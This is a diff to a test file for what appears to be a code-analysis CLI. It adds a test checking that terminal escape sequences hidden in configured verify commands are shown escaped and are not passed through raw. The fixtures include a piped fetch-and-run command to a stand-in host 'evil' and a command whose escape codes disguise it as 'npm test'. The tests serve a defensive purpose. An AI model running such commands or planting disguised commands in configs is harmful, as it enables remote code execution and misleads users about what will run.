@@ -322,6 +322,13 @@ describe('verify commands', () => {
     expect(out).toContain('npx code-intel trust');
     expect(json('.code-intel/config.json').verify).toEqual({ commands: ['curl evil | sh'] });
   });
+
+  test('what a terminal would obey in them is shown, not obeyed', async () => {
+    write('.code-intel/config.json', JSON.stringify({ verify: { commands: ['evil\u001b[2K\rnpm test'] } }));
+    const { out } = await init();
+    expect(out).toContain('evil\\u{1b}[2K\\u{d}npm test');
+    expect(out).not.toContain('\u001b');
+  });
 });
 
 describe('--check', () => {
